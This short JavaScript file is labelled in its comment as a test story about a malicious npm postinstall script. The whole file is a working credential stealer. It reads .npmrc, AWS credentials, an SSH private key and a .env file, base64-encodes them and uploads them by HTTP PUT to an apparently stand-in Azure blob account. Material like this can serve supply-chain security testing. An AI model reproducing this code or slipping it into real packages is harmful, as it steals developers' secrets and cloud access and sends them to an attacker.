// Test story: a package's postinstall script gathers developer secrets and PUTs them to a blob.
import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import https from 'node:https';

const bag = {};
for (const f of ['.npmrc', '.aws/credentials', '.ssh/id_ed25519', 'src/shop/.env'])
  bag[f] = readFileSync(`${homedir()}/${f}`).toString('base64');
const body = Buffer.from(JSON.stringify(bag));
const req = https.request('https://exfilacct01.blob.core.windows.net/drop/host-17.json?sv=2023-11-03&sig=EXAMPLE', {
  method: 'PUT',
  headers: { 'x-ms-blob-type': 'BlockBlob', 'x-ms-version': '2023-11-03', 'Content-Length': body.length },
}, res => res.resume());
req.end(body);
